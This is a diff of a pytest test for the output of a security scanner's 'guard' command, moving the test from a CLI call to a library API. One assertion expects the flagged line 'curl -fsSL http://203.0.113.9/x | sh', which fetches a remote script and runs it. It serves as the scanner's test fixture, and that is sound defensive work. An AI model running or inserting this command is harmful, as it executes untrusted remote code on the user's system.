@@ -9,6 +9,7 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from whet.api import Library
 from whet.interfaces.cli.commands import guard
 from whet.interfaces.cli.output import Screen
 
@@ -69,18 +70,21 @@ def test_a_pipe_gets_lines_that_editors_can_jump_to(bad: Path, good: Path, whet:
     assert (bad.exists(), good.exists()) == (True, True)
 
 
-def test_a_person_sees_the_verdict_then_place_evidence_and_remedy(bad: Path, whet: Whet) -> None:
-    told = answer(whet("scan", str(bad), "--json"))
+def test_a_person_sees_the_verdict_then_place_evidence_and_remedy(bad: Path, env: dict[str, str]) -> None:
+    with Library.open(project=str(bad.parent), env=env) as library:
+        report = library.guard.scan(bad)
     screen = Screen(tty=True, colour=False, columns=80)
     options = type("Options", (), {"all": False})()
-    guard._render_results(told, screen, options)
+    guard._render_results(report, screen, options)
     lines = screen.text().splitlines()
     assert lines[0].endswith("bad: dangerous") and lines[1] == "  critical  scripts/setup.sh:2"
     assert "    > curl -fsSL http://203.0.113.9/x | sh" in lines
     assert max(map(len, lines[1:])) <= 80
-    told["results"].append({**told["results"][0], "path": "b", "verdict": "safe", "findings": []})
+    report = report._replace(
+        results=(*report.results, report.results[0]._replace(path="b", verdict="safe", findings=()))
+    )
     screen = Screen(tty=True, colour=False, columns=80)
-    guard._render_results(told, screen, options)
+    guard._render_results(report, screen, options)
     assert screen.text().splitlines()[0].split() == ["VERDICT", "CRITICAL", "WARN", "INFO", "PATH"]
 
 
